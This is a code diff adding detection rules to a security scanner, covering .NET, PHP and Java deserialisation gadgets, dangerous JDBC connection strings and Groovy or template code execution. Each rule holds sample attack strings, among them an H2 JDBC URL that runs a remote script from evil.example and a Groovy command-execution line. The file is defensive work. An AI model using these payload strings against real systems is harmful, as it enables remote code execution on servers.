@@ -1,0 +1,75 @@
+import { CHAR } from '../features.ts'
+import { pattern, type Rule } from '../rule.ts'
+import { WORD } from '../words.ts'
+
+/**
+ * Types that harm whoever builds an object of a type that the sender names: gadgets of .NET, PHP and
+ * Java, and database addresses that make the driver load code.
+ */
+export const gadgetRules: readonly Rule[] = [
+  pattern(
+    'deserialisation/dotnet',
+    /\b(?:objectdataprovider\b[^\n]{0,200}(?:methodname|objecttype|process)|expandedwrapper(?:of|`\d)|resourcedictionary\b[^\n]{0,200}(?:x:key|xaml)|system\.(?:windows\.data\.objectdataprovider|configuration\.install\.assemblyinstaller|data\.services\.internal|collections\.generic\.sortedset`\d\[\[|security\.principal\.windowsidentity|management\.automation\.pscredential|diagnostics\.process,\s{0,2}system)|z:assembly\s{0,2}=|activitysurrogateselector|textformattingrunproperties|typeconfusedelegate|psobject,\s{0,2}system)/,
+    {
+      score: 5,
+      quotable: true,
+      words: WORD.java,
+      attacks: [
+        '<ObjectDataProvider MethodName="Start"/>',
+        'System.Collections.Generic.SortedSet`1[[System.String]]',
+        'ExpandedWrapper`2[[x]]',
+      ],
+      benign: ['System.Collections.Generic.List`1', 'the resource dictionary', 'ObjectDataProvider'],
+    },
+  ),
+  pattern(
+    'deserialisation/php-gadget',
+    /^\s{0,4}\\{0,4}(?:guzzlehttp\\{1,4}(?:psr7\\{1,4}fnstream|cookie\\{1,4}filecookiejar)|monolog\\{1,4}handler|illuminate\\{1,4}(?:broadcasting|bus|foundation\\{1,4}testing)|symfony\\{1,4}component\\{1,4}(?:cache|process)|swift_\w{1,24}|yii\\{1,4}(?:rest\\{1,4}|db\\{1,4}batchqueryresult|log\\{1,4}|caching\\{1,4}|base\\{1,4}behavior)|phpunit\\{1,4}framework\\{1,4}mock|zend_log|imagick|splfileobject|craft\\{1,4}behaviors\\{1,4})|^_fn_(?:close|__tostring)$|^__construct\(\)$/,
+    {
+      score: 5,
+      atStart: true,
+      words: WORD.php,
+      attacks: [
+        'GuzzleHttp\\Psr7\\FnStream',
+        '\\\\GuzzleHttp\\\\Psr7\\\\FnStream',
+        'craft\\behaviors\\FieldLayoutBehavior',
+        '_fn_close',
+      ],
+      benign: ['App\\Models\\User', 'guzzle', 'Illuminate\\Http\\Request'],
+    },
+  ),
+  pattern(
+    'java/jdbc',
+    /\bjdbc:(?:h2:[^\s]{0,300}(?:init\s{0,2}=|runscript|trace_level)|[\w:]{2,16}:[^\s]{0,300}(?:autodeserialize|queryinterceptors|statementinterceptors|socketfactory|sslfactory|loggerfile|allowloadlocalinfile|allowurlinlocalinfile|clientrerouteserverlist|krbjaasfile))|;init=[^\n]{0,24}runscript|\b(?:autodeserialize=(?:true|yes)|socketfactory=org\.)/,
+    {
+      score: 5,
+      words: WORD.java,
+      attacks: [
+        "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
+        'jdbc:mysql://evil.example:3306/test?autoDeserialize=true&queryInterceptors=x',
+        'jdbc:postgresql://x/y?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext',
+      ],
+      benign: [
+        'jdbc:postgresql://db.example:5432/shop?ssl=true',
+        'jdbc:h2:mem:test;DB_CLOSE_DELAY=-1',
+        'a jdbc driver',
+      ],
+    },
+  ),
+  pattern(
+    'java/groovy',
+    /["'\]]\s{0,2}\.\s{0,2}execute\s{0,2}\(\s{0,2}\)|@(?:grabconfig|grabresolver|asttest|grab)\s{0,2}\(|\{\{(?:groovy|velocity|python)(?:\s[^{}]{0,40})?\}\}|\{\{async\s[^{}]{0,40}\}\}/,
+    {
+      score: 5,
+      quotable: true,
+      chars: CHAR.paren | CHAR.brace,
+      words: WORD.java,
+      attacks: [
+        'println "id".execute().text',
+        "@Grab(group='a',module='b',version='1')",
+        '{{groovy}}println(1){{/groovy}}',
+      ],
+      benign: ['command.execute()', 'grab (it)', '{{ python }}'],
+    },
+  ),
+]
